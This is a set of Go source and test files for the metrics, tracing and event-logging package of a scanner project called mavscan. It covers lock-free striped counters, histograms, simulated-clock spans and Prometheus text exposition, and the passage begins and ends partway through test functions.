		family, labels := splitSeries(c.series)
		if family != c.family || labels != c.labels {
			t.Errorf("splitSeries(%q) = %q, %q; want %q, %q",
				c.series, family, labels, c.family, c.labels)
		}
		// Round trip: re-joining the parts must rebuild the series (the
		// empty-brace form canonicalizes to the bare family name).
		rebuilt := family + joinLabels(labels)
		wantSeries := c.series
		if c.labels == "" {
			wantSeries = c.family
		}
		if rebuilt != wantSeries {
			t.Errorf("rejoin of %q = %q, want %q", c.series, rebuilt, wantSeries)
		}
	}
}

func TestJoinLabels(t *testing.T) {
	cases := []struct {
		blocks []string
		want   string
	}{
		{nil, ""},
		{[]string{""}, ""},
		{[]string{`a="1"`}, `{a="1"}`},
		{[]string{`a="1"`, ""}, `{a="1"}`},
		{[]string{`a="1"`, `le="0.5"`}, `{a="1",le="0.5"}`},
		{[]string{"", `le="+Inf"`}, `{le="+Inf"}`},
	}
	for _, c := range cases {
		if got := joinLabels(c.blocks...); got != c.want {
			t.Errorf("joinLabels(%q) = %q, want %q", c.blocks, got, c.want)
		}
	}
}

func TestWritePromLabeledHistogramSuffixes(t *testing.T) {
	reg := New(simtime.NewSim(t0))
	h := reg.Histogram(Labeled("mavscan_lat_seconds", "stage", "probe"), []float64{0.1, 1})
	h.Observe(0.05)
	h.Observe(5)
	var buf bytes.Buffer
	if err := reg.WriteProm(&buf); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	// _bucket merges the series labels with le=, _sum/_count keep only the
	// series labels: the family/label split must survive suffixing.
	for _, want := range []string{
		`mavscan_lat_seconds_bucket{stage="probe",le="0.1"} 1`,
		`mavscan_lat_seconds_bucket{stage="probe",le="+Inf"} 2`,
		`mavscan_lat_seconds_sum{stage="probe"} 5.05`,
		`mavscan_lat_seconds_count{stage="probe"} 2`,
	} {
		if !strings.Contains(out, want+"\n") {
			t.Fatalf("WriteProm missing %q:\n%s", want, out)
		}
	}
}
