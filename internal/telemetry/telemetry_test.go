package telemetry

import (
	"math"
	"strings"
	"sync"
	"testing"
	"time"

	"mavscan/internal/simtime"
)

var t0 = time.Date(2021, 6, 3, 0, 0, 0, 0, time.UTC)

func TestCounterConcurrentSum(t *testing.T) {
	reg := New(simtime.NewSim(t0))
	c := reg.Counter("mavscan_test_total")
	const workers, perWorker = 32, 10000
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < perWorker; i++ {
				c.Inc()
			}
		}()
	}
	wg.Wait()
	if got := c.Value(); got != workers*perWorker {
		t.Fatalf("Value = %d, want %d", got, workers*perWorker)
	}
}

func TestCounterHandleStable(t *testing.T) {
	reg := New(simtime.NewSim(t0))
	a := reg.Counter("x_total")
	b := reg.Counter("x_total")
	if a != b {
		t.Fatal("same name returned distinct counter handles")
	}
	a.Add(3)
	if b.Value() != 3 {
		t.Fatalf("shared handle sees %d, want 3", b.Value())
	}
}

func TestGaugeAddSubSet(t *testing.T) {
	reg := New(simtime.NewSim(t0))
	g := reg.Gauge("depth")
	g.Add(10)
	g.Sub(4)
	if got := g.Value(); got != 6 {
		t.Fatalf("after Add/Sub: %d, want 6", got)
	}
	g.Set(42)
	if got := g.Value(); got != 42 {
		t.Fatalf("after Set: %d, want 42", got)
	}
	g.Add(-2)
	if got := g.Value(); got != 40 {
		t.Fatalf("after negative Add: %d, want 40", got)
	}
}

func TestHistogramBuckets(t *testing.T) {
	reg := New(simtime.NewSim(t0))
	h := reg.Histogram("lat_seconds", []float64{0.01, 0.1, 1})
	for _, v := range []float64{0.005, 0.01, 0.05, 0.5, 5} {
		h.Observe(v)
	}
	s := h.snapshot()
	want := []uint64{2, 1, 1, 1} // ≤0.01 ×2 (0.01 inclusive), ≤0.1, ≤1, +Inf
	for i, w := range want {
		if s.Counts[i] != w {
			t.Fatalf("bucket %d = %d, want %d (all: %v)", i, s.Counts[i], w, s.Counts)
		}
	}
	if s.Count != 5 {
		t.Fatalf("Count = %d, want 5", s.Count)
	}
	if want := 0.005 + 0.01 + 0.05 + 0.5 + 5; math.Abs(s.Sum-want) > 1e-9 {
		t.Fatalf("Sum = %v, want %v", s.Sum, want)
	}
}

func TestNilRegistryIsInert(t *testing.T) {
	var reg *Registry
	if reg.Enabled() {
		t.Fatal("nil registry claims enabled")
	}
	c := reg.Counter("c")
	c.Add(5)
	c.Inc()
	if c.Value() != 0 || c.Name() != "" {
		t.Fatal("nil counter recorded")
	}
	g := reg.Gauge("g")
	g.Set(1)
	g.Add(1)
	if g.Value() != 0 {
		t.Fatal("nil gauge recorded")
	}
	h := reg.Histogram("h", nil)
	h.Observe(1)
	h.ObserveDuration(time.Second)
	if h.Value() != 0 {
		t.Fatal("nil histogram recorded")
	}
	sp := reg.StartSpan("root")
	sp.Child("child").End()
	sp.End()
	if spans, _ := reg.Spans(); spans != nil {
		t.Fatal("nil registry recorded spans")
	}
	var b strings.Builder
	if err := reg.WriteProm(&b); err != nil || b.Len() != 0 {
		t.Fatalf("nil WriteProm: %q, %v", b.String(), err)
	}
	if snap := reg.Snapshot(); len(snap.Counters) != 0 || len(snap.Spans) != 0 {
		t.Fatal("nil snapshot non-empty")
	}
	if !reg.Now().IsZero() {
		t.Fatal("nil Now non-zero")
	}
	if reg.CounterValue("c") != 0 || reg.GaugeValue("g") != 0 || reg.CounterFamilyTotal("c") != 0 {
		t.Fatal("nil accessor non-zero")
	}
}

func TestLabeled(t *testing.T) {
	if got := Labeled("x_total", "state", "fixed"); got != `x_total{state="fixed"}` {
		t.Fatalf("Labeled = %q", got)
	}
	if got := Labeled("x_total", "a", "1", "b", "2"); got != `x_total{a="1",b="2"}` {
		t.Fatalf("Labeled two pairs = %q", got)
	}
	if got := Labeled("x_total"); got != "x_total" {
		t.Fatalf("Labeled bare = %q", got)
	}
	if got := Labeled("x", "k", `va"l\ue`); got != `x{k="va\"l\\ue"}` {
		t.Fatalf("Labeled escaped = %q", got)
	}
}

func TestWritePromFormat(t *testing.T) {
	reg := New(simtime.NewSim(t0))
	reg.Counter(Labeled("mavscan_checks_total", "state", "fixed")).Add(2)
	reg.Counter(Labeled("mavscan_checks_total", "state", "offline")).Add(1)
	reg.Counter("mavscan_probes_total").Add(7)
	reg.Gauge("mavscan_queue_depth").Set(3)
	reg.Histogram("mavscan_tick_seconds", []float64{0.5, 1}).Observe(0.7)

	var b strings.Builder
	if err := reg.WriteProm(&b); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	for _, want := range []string{
		"# TYPE mavscan_checks_total counter\n",
		"mavscan_checks_total{state=\"fixed\"} 2\n",
		"mavscan_checks_total{state=\"offline\"} 1\n",
		"# TYPE mavscan_probes_total counter\n",
		"mavscan_probes_total 7\n",
		"# TYPE mavscan_queue_depth gauge\n",
		"mavscan_queue_depth 3\n",
		"# TYPE mavscan_tick_seconds histogram\n",
		"mavscan_tick_seconds_bucket{le=\"0.5\"} 0\n",
		"mavscan_tick_seconds_bucket{le=\"1\"} 1\n",
		"mavscan_tick_seconds_bucket{le=\"+Inf\"} 1\n",
		"mavscan_tick_seconds_sum 0.7\n",
		"mavscan_tick_seconds_count 1\n",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("exposition missing %q in:\n%s", want, out)
		}
	}
	// One TYPE line per family, not per series.
	if n := strings.Count(out, "# TYPE mavscan_checks_total counter"); n != 1 {
		t.Errorf("family header repeated %d times", n)
	}
}

func TestCounterFamilyTotal(t *testing.T) {
	reg := New(simtime.NewSim(t0))
	reg.Counter(Labeled("v_total", "k", "a")).Add(2)
	reg.Counter(Labeled("v_total", "k", "b")).Add(3)
	reg.Counter("other_total").Add(10)
	if got := reg.CounterFamilyTotal("v_total"); got != 5 {
		t.Fatalf("family total = %d, want 5", got)
	}
}
