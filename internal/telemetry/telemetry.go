// Package telemetry is mavscan's metrics and tracing layer: the runtime
// instrument that makes the three-stage pipeline, the observer loop, and
// the honeypot farm visible while they run. It follows the two design
// rules the rest of the code base already obeys:
//
//   - Determinism. Every timestamp comes from an injected simtime.Clock,
//     never from the ambient wall clock, so spans recorded under a
//     *simtime.Sim replay identically and the simclock lint rule holds.
//     The package spawns no goroutines: exposition is pull-based
//     (WriteProm / Snapshot), so there is no background flusher to leak
//     or to race the simulated clock.
//
//   - Hot-path safety. Counters and histograms are lock-free and striped
//     64 ways (the same fan-out as internal/scanner's sharded
//     aggregation), so concurrent probe workers never contend on one
//     cache line. A nil *Registry is a valid, fully disabled instance:
//     every method on it — and on the nil metric handles it hands out —
//     is an immediate no-op, so an uninstrumented scan pays one nil
//     check per flush, not per probe.
//
// Metric names follow the Prometheus convention
// (mavscan_<subsystem>_<what>_<unit>); series labels are carried in the
// name itself via Labeled, e.g.
//
//	reg.Counter(telemetry.Labeled("mavscan_observer_checks_total", "state", "fixed"))
//
// The package is dependency-free: stdlib plus internal/simtime only.
package telemetry

import (
	"math/rand/v2"
	"sort"
	"sync"
	"sync/atomic"
	"time"

	"mavscan/internal/simtime"
)

// numStripes is the fan-out of every striped metric. 64 matches the
// scanner's aggregation shards and the default Stage-I worker count: with
// at most ~64 concurrent writers, two goroutines rarely share a stripe.
const numStripes = 64

// stripe is one padded counter cell. The padding spaces adjacent stripes
// a cache line apart so concurrent Adds never false-share.
type stripe struct {
	v atomic.Uint64
	_ [56]byte
}

// stripeIdx picks the stripe for the calling goroutine. The standard
// library exposes no goroutine or P identity, so the index is drawn from
// math/rand/v2's top-level generator, which Go 1.22 backs with a
// per-thread state: concurrent callers on different OS threads draw from
// different sources without synchronizing, and land on different cache
// lines with high probability — which is all striping needs. Counters are
// order- and placement-independent sums, so randomized placement cannot
// change any exposed value.
func stripeIdx() int {
	return int(rand.Uint64() & (numStripes - 1))
}

// Counter is a monotonically increasing, lock-free striped counter. The
// nil *Counter is a valid disabled instance.
type Counter struct {
	name    string
	stripes [numStripes]stripe
}

// Add increments the counter by n.
func (c *Counter) Add(n uint64) {
	if c == nil || n == 0 {
		return
	}
	c.stripes[stripeIdx()].v.Add(n)
}

// Inc increments the counter by one.
func (c *Counter) Inc() { c.Add(1) }

// Value returns the current total.
func (c *Counter) Value() uint64 {
	if c == nil {
		return 0
	}
	var sum uint64
	for i := range c.stripes {
		sum += c.stripes[i].v.Load()
	}
	return sum
}

// Name returns the full series name the counter was registered under.
func (c *Counter) Name() string {
	if c == nil {
		return ""
	}
	return c.name
}

// Gauge is a lock-free instantaneous value. Delta-style updates (Add/Sub,
// e.g. queue depth) are striped like counters; Set collapses the gauge to
// one absolute value and is meant for sampled quantities (store size,
// channel length) written from one site at a time. Mixing concurrent Set
// and Add is safe (all accesses are atomic) but a reader may transiently
// observe a partially collapsed sum.
type Gauge struct {
	name    string
	stripes [numStripes]stripe
}

// Add moves the gauge by delta (negative deltas via two's complement).
func (g *Gauge) Add(delta int64) {
	if g == nil || delta == 0 {
		return
	}
	g.stripes[stripeIdx()].v.Add(uint64(delta))
}

// Sub decrements the gauge by delta.
func (g *Gauge) Sub(delta int64) { g.Add(-delta) }

// Set overwrites the gauge with an absolute value.
func (g *Gauge) Set(v int64) {
	if g == nil {
		return
	}
	g.stripes[0].v.Store(uint64(v))
	for i := 1; i < numStripes; i++ {
		g.stripes[i].v.Store(0)
	}
}

// Value returns the current gauge reading.
func (g *Gauge) Value() int64 {
	if g == nil {
		return 0
	}
	var sum uint64
	for i := range g.stripes {
		sum += g.stripes[i].v.Load()
	}
	return int64(sum)
}

// Name returns the full series name the gauge was registered under.
func (g *Gauge) Name() string {
	if g == nil {
		return ""
	}
	return g.name
}

// Registry is the root of one telemetry instance: a namespace of metrics,
// a span log, and the injected clock every timestamp is read from. A nil
// *Registry is the disabled instance — every method no-ops and every
// metric constructor returns a nil handle whose methods also no-op.
type Registry struct {
	clock simtime.Clock

	mu         sync.Mutex
	counters   map[string]*Counter
	gauges     map[string]*Gauge
	histograms map[string]*Histogram
	spans      spanLog
	spanSeq    atomic.Uint64
	events     eventLog
}

// New returns an enabled registry reading time from clock. Pass
// simtime.Wall{} for production runs and a *simtime.Sim for deterministic
// replays; clock must be non-nil.
func New(clock simtime.Clock) *Registry {
	if clock == nil {
		panic("telemetry: nil clock")
	}
	return &Registry{
		clock:      clock,
		counters:   make(map[string]*Counter),
		gauges:     make(map[string]*Gauge),
		histograms: make(map[string]*Histogram),
	}
}

// Enabled reports whether the registry records anything.
func (r *Registry) Enabled() bool { return r != nil }

// Now reads the registry's injected clock (zero time when disabled).
func (r *Registry) Now() time.Time {
	if r == nil {
		return time.Time{}
	}
	return r.clock.Now()
}

// Counter returns the counter registered under name, creating it on first
// use. Handles are stable: call sites should resolve them once, outside
// hot loops.
func (r *Registry) Counter(name string) *Counter {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	c := r.counters[name]
	if c == nil {
		c = &Counter{name: name}
		r.counters[name] = c
	}
	return c
}

// Gauge returns the gauge registered under name, creating it on first use.
func (r *Registry) Gauge(name string) *Gauge {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	g := r.gauges[name]
	if g == nil {
		g = &Gauge{name: name}
		r.gauges[name] = g
	}
	return g
}

// sortedKeys returns the keys of m in lexical order.
func sortedKeys[V any](m map[string]V) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}
