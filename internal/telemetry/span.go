package telemetry

import "time"

// maxSpans bounds the per-registry span log. Spans are coarse (one per
// pipeline stage, observer tick, or run — never per probe), so the cap is
// generous; overflow is counted, not silently dropped.
const maxSpans = 4096

// SpanRecord is one completed span as it appears in snapshots. IDs are
// registry-local and dense; Parent is 0 for root spans.
type SpanRecord struct {
	ID     uint64    `json:"id"`
	Parent uint64    `json:"parent,omitempty"`
	Name   string    `json:"name"`
	Start  time.Time `json:"start"`
	End    time.Time `json:"end"`
}

// Duration returns the span's recorded length.
func (s SpanRecord) Duration() time.Duration { return s.End.Sub(s.Start) }

// spanLog is the bounded completed-span store.
type spanLog struct {
	records []SpanRecord
	dropped uint64
}

// Span is one in-flight trace region. Spans read time exclusively from
// their registry's injected clock, so a trace recorded under *simtime.Sim
// is bit-for-bit deterministic. The nil *Span (from a disabled registry)
// no-ops everywhere, including Child.
type Span struct {
	reg    *Registry
	name   string
	id     uint64
	parent uint64
	start  time.Time
}

// StartSpan opens a root span.
func (r *Registry) StartSpan(name string) *Span {
	if r == nil {
		return nil
	}
	return &Span{reg: r, name: name, id: r.spanSeq.Add(1), start: r.clock.Now()}
}

// Child opens a span nested under s.
func (s *Span) Child(name string) *Span {
	if s == nil {
		return nil
	}
	return &Span{
		reg:    s.reg,
		name:   name,
		id:     s.reg.spanSeq.Add(1),
		parent: s.id,
		start:  s.reg.clock.Now(),
	}
}

// End closes the span and appends it to the registry's span log. Calling
// End on a nil span is a no-op; calling it twice records twice (don't).
func (s *Span) End() {
	if s == nil {
		return
	}
	rec := SpanRecord{
		ID:     s.id,
		Parent: s.parent,
		Name:   s.name,
		Start:  s.start,
		End:    s.reg.clock.Now(),
	}
	s.reg.mu.Lock()
	defer s.reg.mu.Unlock()
	if len(s.reg.spans.records) >= maxSpans {
		s.reg.spans.dropped++
		return
	}
	s.reg.spans.records = append(s.reg.spans.records, rec)
}

// Spans returns a copy of the completed-span log in completion order,
// plus the number of spans dropped to the cap.
func (r *Registry) Spans() ([]SpanRecord, uint64) {
	if r == nil {
		return nil, 0
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]SpanRecord(nil), r.spans.records...), r.spans.dropped
}
