package telemetry

import (
	"math"
	"sync/atomic"
	"time"
)

// DefBuckets are the default latency buckets, in seconds. They span the
// simulated network's sub-millisecond dials up to multi-second pipeline
// stages, mirroring the range LZR-style scan funnels report.
var DefBuckets = []float64{
	1e-5, 2.5e-5, 5e-5, 1e-4, 2.5e-4, 5e-4,
	1e-3, 2.5e-3, 5e-3, 1e-2, 2.5e-2, 5e-2,
	0.1, 0.25, 0.5, 1, 2.5, 5, 10,
}

// histShard is one stripe of a histogram: a bucket-count vector plus the
// running sum and count. Shards are allocated separately so concurrent
// writers mostly touch distinct cache lines.
type histShard struct {
	counts  []atomic.Uint64 // len(bounds)+1; last bucket is +Inf
	sumBits atomic.Uint64   // math.Float64bits of the shard's sum
	count   atomic.Uint64
}

// Histogram is a fixed-bucket, lock-free striped histogram. Bucket bounds
// are upper bounds in ascending order; an implicit +Inf bucket catches the
// tail. The nil *Histogram is a valid disabled instance.
type Histogram struct {
	name   string
	bounds []float64
	shards [numStripes]*histShard
}

func newHistogram(name string, bounds []float64) *Histogram {
	h := &Histogram{name: name, bounds: append([]float64(nil), bounds...)}
	for i := range h.shards {
		h.shards[i] = &histShard{counts: make([]atomic.Uint64, len(bounds)+1)}
	}
	return h
}

// Histogram returns the histogram registered under name, creating it with
// the given bucket bounds on first use (nil bounds = DefBuckets). Later
// calls return the existing histogram regardless of bounds.
func (r *Registry) Histogram(name string, bounds []float64) *Histogram {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	h := r.histograms[name]
	if h == nil {
		if bounds == nil {
			bounds = DefBuckets
		}
		h = newHistogram(name, bounds)
		r.histograms[name] = h
	}
	return h
}

// Observe records one value.
func (h *Histogram) Observe(v float64) {
	if h == nil {
		return
	}
	// Linear scan: bucket lists are small (≤ ~20) and the loop is branch-
	// predictable, beating a binary search at this size.
	b := len(h.bounds)
	for i, ub := range h.bounds {
		if v <= ub {
			b = i
			break
		}
	}
	sh := h.shards[stripeIdx()]
	sh.counts[b].Add(1)
	sh.count.Add(1)
	for {
		old := sh.sumBits.Load()
		next := math.Float64bits(math.Float64frombits(old) + v)
		if sh.sumBits.CompareAndSwap(old, next) {
			return
		}
	}
}

// ObserveDuration records a duration in seconds.
func (h *Histogram) ObserveDuration(d time.Duration) {
	if h == nil {
		return
	}
	h.Observe(d.Seconds())
}

// Name returns the full series name the histogram was registered under.
func (h *Histogram) Name() string {
	if h == nil {
		return ""
	}
	return h.name
}

// HistogramSnapshot is one histogram's frozen state.
type HistogramSnapshot struct {
	// Bounds are the bucket upper bounds; Counts has one extra entry for
	// the +Inf bucket. Counts are per-bucket (not cumulative).
	Bounds []float64 `json:"bounds"`
	Counts []uint64  `json:"counts"`
	Sum    float64   `json:"sum"`
	Count  uint64    `json:"count"`
}

// snapshot folds every shard into one HistogramSnapshot.
func (h *Histogram) snapshot() HistogramSnapshot {
	s := HistogramSnapshot{
		Bounds: append([]float64(nil), h.bounds...),
		Counts: make([]uint64, len(h.bounds)+1),
	}
	for _, sh := range h.shards {
		for i := range sh.counts {
			s.Counts[i] += sh.counts[i].Load()
		}
		s.Sum += math.Float64frombits(sh.sumBits.Load())
		s.Count += sh.count.Load()
	}
	return s
}

// Value returns the total observation count.
func (h *Histogram) Value() uint64 {
	if h == nil {
		return 0
	}
	var n uint64
	for _, sh := range h.shards {
		n += sh.count.Load()
	}
	return n
}
