package telemetry

import (
	"encoding/json"
	"fmt"
	"io"
	"strconv"
	"strings"
)

// Labeled renders a Prometheus-style series name: base plus label pairs,
// e.g. Labeled("x_total", "state", "fixed") == `x_total{state="fixed"}`.
// Pairs are key, value, key, value, ...; an odd tail is ignored. Label
// values are escaped per the exposition format.
func Labeled(base string, pairs ...string) string {
	if len(pairs) < 2 {
		return base
	}
	var b strings.Builder
	b.WriteString(base)
	b.WriteByte('{')
	for i := 0; i+1 < len(pairs); i += 2 {
		if i > 0 {
			b.WriteByte(',')
		}
		b.WriteString(pairs[i])
		b.WriteString(`="`)
		b.WriteString(escapeLabel(pairs[i+1]))
		b.WriteString(`"`)
	}
	b.WriteByte('}')
	return b.String()
}

func escapeLabel(v string) string {
	r := strings.NewReplacer(`\`, `\\`, `"`, `\"`, "\n", `\n`)
	return r.Replace(v)
}

// splitSeries splits a registered name into its family (metric name
// proper) and the label block, without braces ("" if unlabeled).
func splitSeries(name string) (family, labels string) {
	i := strings.IndexByte(name, '{')
	if i < 0 {
		return name, ""
	}
	return name[:i], strings.TrimSuffix(name[i+1:], "}")
}

// joinLabels merges two label blocks into one brace-wrapped suffix.
func joinLabels(blocks ...string) string {
	var parts []string
	for _, b := range blocks {
		if b != "" {
			parts = append(parts, b)
		}
	}
	if len(parts) == 0 {
		return ""
	}
	return "{" + strings.Join(parts, ",") + "}"
}

func formatFloat(v float64) string {
	return strconv.FormatFloat(v, 'g', -1, 64)
}

// Synthetic series surfacing the bounded logs' overflow accounting. They
// are emitted by WriteProm without registration, so a span or event lost
// to a cap is never silent; registering ordinary metrics under these names
// is reserved.
const (
	SpansDroppedSeries  = "mavscan_telemetry_spans_dropped_total"
	EventsDroppedSeries = "mavscan_telemetry_events_dropped_total"
)

// WriteProm writes every metric in the Prometheus text exposition format,
// families sorted lexically and series sorted within each family. A nil
// registry writes nothing.
func (r *Registry) WriteProm(w io.Writer) error {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	counters := make(map[string]uint64, len(r.counters)+2)
	for name, c := range r.counters {
		counters[name] = c.Value()
	}
	counters[SpansDroppedSeries] = r.spans.dropped
	counters[EventsDroppedSeries] = r.events.dropped
	gauges := make(map[string]int64, len(r.gauges))
	for name, g := range r.gauges {
		gauges[name] = g.Value()
	}
	hists := make(map[string]HistogramSnapshot, len(r.histograms))
	for name, h := range r.histograms {
		hists[name] = h.snapshot()
	}
	r.mu.Unlock()

	var b strings.Builder
	writeFamilies(&b, "counter", sortedKeys(counters), func(name string) {
		fmt.Fprintf(&b, "%s %d\n", name, counters[name])
	})
	writeFamilies(&b, "gauge", sortedKeys(gauges), func(name string) {
		fmt.Fprintf(&b, "%s %d\n", name, gauges[name])
	})
	writeFamilies(&b, "histogram", sortedKeys(hists), func(name string) {
		fam, labels := splitSeries(name)
		s := hists[name]
		var cum uint64
		for i, c := range s.Counts {
			cum += c
			le := "+Inf"
			if i < len(s.Bounds) {
				le = formatFloat(s.Bounds[i])
			}
			fmt.Fprintf(&b, "%s_bucket%s %d\n", fam, joinLabels(labels, `le="`+le+`"`), cum)
		}
		fmt.Fprintf(&b, "%s_sum%s %s\n", fam, joinLabels(labels), formatFloat(s.Sum))
		fmt.Fprintf(&b, "%s_count%s %d\n", fam, joinLabels(labels), s.Count)
	})
	_, err := io.WriteString(w, b.String())
	return err
}

// writeFamilies emits one # TYPE header per family, then the family's
// series via emit, preserving the sorted order of names.
func writeFamilies(b *strings.Builder, typ string, names []string, emit func(name string)) {
	lastFam := ""
	for _, name := range names {
		fam, _ := splitSeries(name)
		if fam != lastFam {
			fmt.Fprintf(b, "# TYPE %s %s\n", fam, typ)
			lastFam = fam
		}
		emit(name)
	}
}

// Snapshot is the JSON-friendly frozen state of a registry.
type Snapshot struct {
	Counters      map[string]uint64            `json:"counters,omitempty"`
	Gauges        map[string]int64             `json:"gauges,omitempty"`
	Histograms    map[string]HistogramSnapshot `json:"histograms,omitempty"`
	Spans         []SpanRecord                 `json:"spans,omitempty"`
	SpansDropped  uint64                       `json:"spans_dropped,omitempty"`
	Events        []EventRecord                `json:"events,omitempty"`
	EventsDropped uint64                       `json:"events_dropped,omitempty"`
}

// Snapshot freezes the registry. A nil registry yields an empty snapshot.
func (r *Registry) Snapshot() *Snapshot {
	s := &Snapshot{}
	if r == nil {
		return s
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	if len(r.counters) > 0 {
		s.Counters = make(map[string]uint64, len(r.counters))
		for name, c := range r.counters {
			s.Counters[name] = c.Value()
		}
	}
	if len(r.gauges) > 0 {
		s.Gauges = make(map[string]int64, len(r.gauges))
		for name, g := range r.gauges {
			s.Gauges[name] = g.Value()
		}
	}
	if len(r.histograms) > 0 {
		s.Histograms = make(map[string]HistogramSnapshot, len(r.histograms))
		for name, h := range r.histograms {
			s.Histograms[name] = h.snapshot()
		}
	}
	s.Spans = append([]SpanRecord(nil), r.spans.records...)
	s.SpansDropped = r.spans.dropped
	n := len(r.events.records)
	for i := 0; i < n; i++ {
		s.Events = append(s.Events, r.events.records[(r.events.head+i)%n])
	}
	s.EventsDropped = r.events.dropped
	return s
}

// WriteJSON writes the snapshot as indented JSON.
func (r *Registry) WriteJSON(w io.Writer) error {
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	return enc.Encode(r.Snapshot())
}

// CounterValue returns the value of the named counter series, 0 if the
// series does not exist. Snapshot-style accessor for tests and progress
// displays that did not keep the handle.
func (r *Registry) CounterValue(name string) uint64 {
	if r == nil {
		return 0
	}
	r.mu.Lock()
	c := r.counters[name]
	r.mu.Unlock()
	return c.Value()
}

// GaugeValue returns the value of the named gauge series, 0 if absent.
func (r *Registry) GaugeValue(name string) int64 {
	if r == nil {
		return 0
	}
	r.mu.Lock()
	g := r.gauges[name]
	r.mu.Unlock()
	return g.Value()
}

// CounterFamilyTotal sums every counter series of the given family: the
// all-labels total of e.g. mavscan_tsunami_verdicts_total.
func (r *Registry) CounterFamilyTotal(family string) uint64 {
	if r == nil {
		return 0
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	var sum uint64
	for name, c := range r.counters {
		if fam, _ := splitSeries(name); fam == family {
			sum += c.Value()
		}
	}
	return sum
}
