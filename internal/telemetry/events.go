package telemetry

import (
	"encoding/json"
	"io"
	"time"
)

// maxEvents bounds the per-registry event log. Unlike the span log (which
// keeps the first spans and counts overflow), the event log is a tail: it
// retains the most recent maxEvents records and counts how many older ones
// were overwritten, because a live operator cares about what is happening
// now, not about the run's first minute.
const maxEvents = 8192

// EventRecord is one structured event. Fields are ordered key/value pairs
// (key, value, key, value, ...), never a map, so two runs that emit the
// same events render byte-identical JSONL — map iteration order must not
// leak into the export.
type EventRecord struct {
	// Seq is the registry-global 1-based emission number; it survives the
	// ring's overwrites, so a tailing client can resume from the last Seq
	// it saw.
	Seq    uint64    `json:"seq"`
	Time   time.Time `json:"t"`
	Name   string    `json:"event"`
	Fields []string  `json:"fields,omitempty"`
}

// AppendJSON appends the record as one JSON object (no trailing newline):
//
//	{"seq":12,"t":"2021-06-03T03:00:00Z","event":"observer.tick","tick":"1"}
//
// Keys emit in field order; values pass through encoding/json, so the
// output is always valid JSON and deterministic for identical records.
func (e EventRecord) AppendJSON(b []byte) []byte {
	quote := func(s string) []byte {
		q, err := json.Marshal(s)
		if err != nil { // cannot happen for a string
			return []byte(`""`)
		}
		return q
	}
	b = append(b, `{"seq":`...)
	b = appendUint(b, e.Seq)
	b = append(b, `,"t":`...)
	b = quoteTime(b, e.Time)
	b = append(b, `,"event":`...)
	b = append(b, quote(e.Name)...)
	for i := 0; i+1 < len(e.Fields); i += 2 {
		b = append(b, ',')
		b = append(b, quote(e.Fields[i])...)
		b = append(b, ':')
		b = append(b, quote(e.Fields[i+1])...)
	}
	return append(b, '}')
}

func appendUint(b []byte, v uint64) []byte {
	if v == 0 {
		return append(b, '0')
	}
	var tmp [20]byte
	i := len(tmp)
	for v > 0 {
		i--
		tmp[i] = byte('0' + v%10)
		v /= 10
	}
	return append(b, tmp[i:]...)
}

func quoteTime(b []byte, t time.Time) []byte {
	b = append(b, '"')
	b = t.AppendFormat(b, time.RFC3339Nano)
	return append(b, '"')
}

// eventLog is the bounded most-recent-events ring.
type eventLog struct {
	records []EventRecord // ring storage, up to maxEvents
	head    int           // index of the oldest record once the ring is full
	seq     uint64
	dropped uint64
}

// Event appends one structured event stamped with the registry's injected
// clock. Fields are ordered key/value pairs, e.g.
//
//	reg.Event("segment.done", "shard", "3", "ordinal", "17")
//
// Events are coarse run-lifecycle records (stage transitions, segment
// completions, observer ticks) — never per-probe. A nil registry no-ops.
func (r *Registry) Event(name string, fields ...string) {
	if r == nil {
		return
	}
	now := r.clock.Now()
	r.mu.Lock()
	defer r.mu.Unlock()
	r.events.seq++
	rec := EventRecord{
		Seq:    r.events.seq,
		Time:   now,
		Name:   name,
		Fields: append([]string(nil), fields...),
	}
	if len(r.events.records) < maxEvents {
		r.events.records = append(r.events.records, rec)
		return
	}
	r.events.records[r.events.head] = rec
	r.events.head = (r.events.head + 1) % maxEvents
	r.events.dropped++
}

// Events returns the retained events oldest-first, plus the number of
// older events the bounded log has already overwritten.
func (r *Registry) Events() ([]EventRecord, uint64) {
	if r == nil {
		return nil, 0
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	n := len(r.events.records)
	out := make([]EventRecord, 0, n)
	for i := 0; i < n; i++ {
		out = append(out, r.events.records[(r.events.head+i)%n])
	}
	return out, r.events.dropped
}

// WriteEvents writes the retained events as JSONL, one object per line,
// oldest first. tail > 0 restricts the output to the most recent tail
// records; afterSeq > 0 additionally skips records with Seq <= afterSeq,
// which is how a tailing client resumes without replaying what it saw.
func (r *Registry) WriteEvents(w io.Writer, tail int, afterSeq uint64) error {
	events, _ := r.Events()
	if tail > 0 && len(events) > tail {
		events = events[len(events)-tail:]
	}
	var buf []byte
	for _, e := range events {
		if e.Seq <= afterSeq {
			continue
		}
		buf = e.AppendJSON(buf[:0])
		buf = append(buf, '\n')
		if _, err := w.Write(buf); err != nil {
			return err
		}
	}
	return nil
}
