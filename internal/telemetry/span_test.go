package telemetry

import (
	"reflect"
	"testing"
	"time"

	"mavscan/internal/simtime"
)

// runSpanScript replays the same span structure against a fresh Sim clock
// and returns the recorded log.
func runSpanScript() []SpanRecord {
	sim := simtime.NewSim(t0)
	reg := New(sim)
	root := reg.StartSpan("pipeline.run")
	sim.Advance(time.Second)
	s1 := root.Child("stage1.portscan")
	sim.Advance(3 * time.Second)
	s1.End()
	s23 := root.Child("stage23.workers")
	sim.Advance(2 * time.Second)
	s23.End()
	root.End()
	spans, _ := reg.Spans()
	return spans
}

// TestSpansDeterministicUnderSim is the simclock guarantee: two identical
// runs on simulated clocks record identical traces, byte for byte.
func TestSpansDeterministicUnderSim(t *testing.T) {
	a, b := runSpanScript(), runSpanScript()
